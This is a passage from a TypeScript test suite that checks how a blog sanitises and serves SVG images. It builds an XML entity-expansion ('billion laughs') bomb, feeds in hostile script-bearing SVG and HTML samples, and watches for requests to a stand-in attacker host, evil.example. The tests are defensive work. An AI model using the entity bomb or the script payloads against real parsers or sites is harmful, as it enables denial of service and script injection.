  const layers = Array.from({ length: 30 }, (_, at) => `<!ENTITY e${at + 1} "&e${at};&e${at};&e${at};">`).join('')
  const { bytes: bomb } = await safeSvg(
    `<!DOCTYPE svg [<!ENTITY e0 "ha">${layers}]>${svg('<text>&e30;</text>')}`,
  ).catch(() => ({ bytes: Buffer.alloc(0) }))
  expect(bomb.length).toBeLessThan(10_000)
})

/** No timer runs in a sandboxed page, so this waits for a few calls into the browser instead. */
const settled = async (page: Page) => {
  for (let round = 0; round < 5; round++) {
    await page.mouse.move(6, 6 + round)
    await page.evaluate(() => document.readyState)
  }
}

/** Opens each drawing by itself. @returns the names of those that ran a script or requested a file. */
async function executions(page: Page, addresses: string[]): Promise<string[]> {
  const seen: string[] = []
  let now = ''
  page.on('dialog', (dialog) => {
    seen.push(now)
    return dialog.dismiss()
  })
  await page.route('https://evil.example/**', (route) => {
    seen.push(now)
    return route.abort()
  })
  for (const address of addresses) {
    now = decodeURIComponent(address.split('/').at(-1) ?? '')
    const answer = await page.goto(address)
    expect(answer?.status(), address).toBe(200)
    await page.mouse.click(5, 5)
    await settled(page)
  }
  return [...new Set(seen)]
}

test('of hostile drawings nothing runs, made safe or not, when they are opened by themselves', {
  tag: '@long',
}, async ({ page, blog }) => {
  const names = Object.keys(hostile)
  blog.write({
    'posts/a.md': post(names.map((name) => `![${name}](<${name}.svg>)`).join('\n\n'), 'draft: true\n'),
    ...Object.fromEntries(names.map((name) => [`posts/${name}.svg`, hostile[name] ?? ''])),
  })
  const { status, manifest } = await blog.compile()
  expect(status).toBe(0)
  const pictures = manifest().posts[0]?.pictures ?? []
  const kept = pictures.map(({ file }) => readFileSync(path.join(blog.store, 'pictures', file), 'utf8'))
  for (const text of kept) expect(text).not.toMatch(/evil|alert|script|onload|DOCTYPE|foreignObject/i)

  const server = await startServer({ CONTENT_DIR: blog.content, STORE_DIR: blog.store })
  const [name = '', value = ''] = (await signIn(server.url)).split('=')
  await page.context().addCookies([{ name, value, url: server.url }])
  const addresses = pictures.map(({ src }) => `${server.url}${src.replace('/media/', '/api/draft-media/')}`)
  expect(addresses.length).toBeGreaterThanOrEqual(12)
  expect(await executions(page, addresses)).toEqual([])
  await server.stop()

  // Now the drawings are served unchanged, and only the policy of the answer can stop them. Without the policy they
  // run, which shows that this test can fail.
  let hasPolicy = true
  const bare = createServer(async (request, response) => {
    const file = decodeURIComponent((request.url ?? '').slice(1))
    if (!file.endsWith('.svg')) return response.writeHead(404).end()
    const answer = await mediaAnswer(path.join(blog.content, 'posts', file), {
      name: file,
      tag: 'x',
      cacheControl: 'no-store',
    })
    response.writeHead(200, hasPolicy ? Object.fromEntries(answer.headers) : { 'content-type': 'image/svg+xml' })
    response.end(Buffer.from(await answer.arrayBuffer()))
  }).listen(0)
  const { port } = bare.address() as { port: number }
  const raw = names.map((one) => `http://localhost:${port}/${encodeURIComponent(`${one}.svg`)}`)
  expect(await executions(page, raw)).toEqual([])
  hasPolicy = false
  expect((await executions(await page.context().newPage(), raw)).length).toBeGreaterThan(8)
  bare.close()
})

test('what is both shown and linked to has an address for each use, and a drawing is safe at both', async ({
  blog,
}) => {
  blog.write({
    'posts/a.md': post('[all](./photo.jpg) ![P](./photo.jpg)\n\n[d](./d.svg) ![D](./d.svg)\n\n[n](./no.svg)'),
    'posts/d.svg': hostile.script ?? '',
    'posts/no.svg': '<html><script>alert(1)</script>',
  })
  const original = path.join(blog.content, 'posts/photo.jpg')
  await sharp(photo).resize(400).keepExif().toFile(original)
  const { status, html, manifest } = await blog.compile()
  expect(status).toBe(0)
  const kept = new Map(manifest().posts[0]?.pictures.map(({ src, file }) => [src, file]))
  const at = (attribute: string, name: string) => {
    const src = new RegExp(`${attribute}="(/media/[^"]+/${name})"`).exec(html('a'))?.[1] ?? ''
    return readFileSync(path.join(blog.store, 'pictures', kept.get(src) ?? ''))
  }
  expect(at('href', 'photo.jpg').equals(readFileSync(original))).toBe(true)
  expect(readFileSync(original).includes('Quincewhistle')).toBe(true)
  expect(at('src', 'photo.jpg').includes('Quincewhistle')).toBe(false)
  for (const attribute of ['href', 'src']) expect(at(attribute, 'd.svg').toString()).not.toMatch(/script|evil/)
  expect(at('href', 'no.svg.txt').toString()).toContain('alert')
})

test('a drawing is served with one policy that lets nothing run, from public/ and from beside a post', async ({
  request,
}) => {
  const { posts }: Manifest = JSON.parse(readFileSync('.contentlayer/e2e/manifest.json', 'utf8'))
  const isShown = ({ src }: { src: string }) => /^\/media\/.*\.svg$/.test(src)
  const beside = posts.filter((post) => !post.draft).flatMap(({ pictures }) => pictures.filter(isShown))
  expect(beside).not.toEqual([])
  expect(mediaPolicy).toMatch(/^default-src 'none';.* sandbox$/)
  for (const address of [...ownDrawings.inPublic, ...beside.map(({ src }) => src)]) {
    const headers = (await request.get(address)).headersArray()
    const policies = headers.filter(({ name }) => name.toLowerCase() === 'content-security-policy')
    expect(
      policies.map(({ value }) => value),
      address,
    ).toEqual([mediaPolicy])
  }
})
